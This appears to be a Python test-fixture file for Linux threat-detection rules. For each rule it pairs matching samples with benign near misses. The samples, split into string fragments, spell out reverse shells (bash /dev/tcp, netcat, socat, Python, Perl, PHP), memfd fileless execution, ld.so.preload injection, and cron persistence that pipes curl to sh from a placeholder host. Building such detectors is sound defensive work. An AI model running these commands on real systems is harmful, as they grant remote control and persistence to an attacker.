"""Behaviour of the rules for Linux."""

from rules.bundle.samples import ADDRESS, PROSE, SERVER, Case, text

CASES = {
    "Clearward_Linux_Fileless_Memfd": Case(
        samples=(
            text(
                "my $f = sysc",
                'all(319, $n, 1); print $h pack("H*", "7f45"); ex',
                'ec {"/proc/$$/fd/$f"} "a";',
            ),
            text(
                "f = os.memfd_cr",
                "eate('a'); os.write(f, urlop",
                "en(u).read()); os.exec",
                "v(f'/proc/self/f",
                "d/{f}', ['a'])",
            ),
        ),
        near_misses=(
            text(
                "f = os.memfd_create('cache'); os.write(f, ",
                "requests.get(u).content); mmap(f, 0)",
            ),
            text(
                'fd = memfd_create("bundle", 0);\n',
                'snprintf(path, 40, "/proc/self/fd/%d", fd);\n',
                "fexecve(fd, argv, env);",
            ),
            text(
                PROSE,
                "With memfd_create() and a path below /proc a program runs ",
                "without a file.",
            ),
        ),
    ),
    "Clearward_Linux_Preload_Drop": Case(
        samples=(
            text("echo /tmp/a.s", "o >> /etc/ld.so.pre", "load\n"),
            text("echo /usr/local/lib/.x/a.s", "o | tee -a /etc/ld.so.pre", "load\n"),
            text(
                "wg",
                "et -q http://files.example/a.so -O $L\necho $L > /etc/ld.so.pre",
                "load\n",
                "chat",
                "tr +i /etc/ld.so.pre",
                "load\n",
            ),
        ),
        near_misses=(
            text("echo /usr/lib/libsnoopy.so >> /etc/ld.so.preload\n"),
            text(
                "if [ -s /etc/ld.so.preload ]; then echo 'check /tmp/a.so'; fi\n",
                "lsattr /etc/ld.so.preload\n",
            ),
            text(
                PROSE,
                "A library named in /etc/ld.so.preload is loaded by every program.",
            ),
        ),
    ),
    "Clearward_Linux_Reverse_Shell_Bash": Case(
        samples=(
            text("ba", "sh -i >& /dev/tc", f"p/{ADDRESS}/4444 0>&1"),
            text(
                "exec 5<>/dev/tc",
                f"p/{ADDRESS}/443; cat <&5 | while re",
                "ad line; do $line 2>&5 >&5; done",
            ),
        ),
        near_misses=(
            text(
                "exec 3<>/dev/tcp/www.example/80; printf 'HEAD / ",
                "HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
            ),
            text("timeout 1 bash -c '</dev/tcp/database.example/5432' && echo up"),
            text(
                PROSE,
                "Bash opens connections through /dev/tcp, which makes reverse ",
                "shells short.",
            ),
        ),
    ),
    "Clearward_Linux_Reverse_Shell_Interpreter": Case(
        samples=(
            text(
                "s = socket.socket(); s.conn",
                f"ect(('{ADDRESS}', 4444)); os.du",
                "p2(s.fileno(), 0); ",
                "pty.sp",
                "awn('/bin/sh')",
            ),
            text(
                "s.conn",
                f'ect(("{ADDRESS}",4444));[os.du',
                "p2(s.fileno(),fd) for fd in (0,1,2)];",
                'subprocess.call(["/bin/',
                'sh","-',
                'i"])',
            ),
            text(
                "connect(S, $a); open(STD",
                'IN, ">&S"); open(STDOUT, ">&S"); ex',
                'ec("/bin/',
                'sh -i");',
            ),
            text(
                "$s = fsock",
                f'open("{ADDRESS}", 4444); exec("/bin/',
                'sh -i <&3 >&3 2>&3");',
            ),
        ),
        near_misses=(
            text("s.co§nnect(('mail.example', 25)); s.sendall(b'EHLO me')"),
            text(
                "os.dup2(log.fileno(), 1); subprocess.call(['/bin/sh', '-c', command])"
            ),
            text(
                "pty.spawn('/bin/bash'); s.connect((host, port)); ",
                "os.dup2(s.fileno(), 1)",
            ),
            text('open(STDIN, "<", "/dev/null"); exec("/bin/sh -c $command");'),
        ),
    ),
    "Clearward_Linux_Reverse_Shell_Netcat": Case(
        samples=(
            text("nc -e /bin/", f"sh {ADDRESS} 4444"),
            text(f"ncat {ADDRESS} 4444 -e /bin/", "bash"),
            text(
                "mkfi",
                "fo /tmp/f; cat /tmp/f | /bin/",
                f"sh -i 2>&1 | nc {ADDRESS} 4444 > /tmp/f",
            ),
            text("soc", "at exec:'ba", f"sh -li',pty,stderr,setsid tcp:{ADDRESS}:4444"),
            text("soc", f"at TCP:{ADDRESS}:4444 EX", "EC:/bin/", "sh"),
        ),
        near_misses=(
            text(
                "$ mkfifo /tmp/f\n",
                "$ cat /tmp/f | /bin/sh -i 2>&1 | nc -l 127.0.0.1 1234 > /tmp/f",
            ),
            text(
                "nc -zv database.example 5432 && echo up\n",
                "ncat -l 8080 --sh-exec 'echo hello'",
            ),
            text(
                'cat message.txt | socat exec:"mail.sh a@b.example",fdin=3 ',
                "tcp:relay.example:25,crlf",
            ),
            text("socat TCP-LISTEN:8080,fork EXEC:/usr/local/bin/answer"),
        ),
    ),
    "Clearward_Linux_Persistence_Pipe": Case(
        samples=(
            text(
                "echo '*/5 * * * * root cu",
                f"rl -fsSL http://{ADDRESS}/a.sh | ba",
                "sh' > /etc/cron.d/a",
            ),
            text(
                "(crontab -l; echo '@reboot wg",
                f"et -qO- {SERVER}/a | s",
                "h') | crontab -",
            ),
            text(
                "echo 'ssh-r",
                "sa AAAAB3NzaC1yc2EAAAADAQAB me' >> /home/me/.ssh/authorized",
                "_keys\n",
                "cu",
                f"rl http://{ADDRESS}/a.sh | s",
                "h\n",
            ),
        ),
        near_misses=(
            text(
                "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
                "curl -fsSL https://get.example/i | sh",
            ),
            text("*/5 * * * * root curl -fsS http://10.0.0.5/heartbeat | sh"),
            text(
                "*/5 * * * * root curl -fsS http://198.51.100.7/heartbeat > /dev/null"
            ),
            text(
                "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAB me' >> ",
                "~/.ssh/authorized_keys",
            ),
        ),
    ),
}
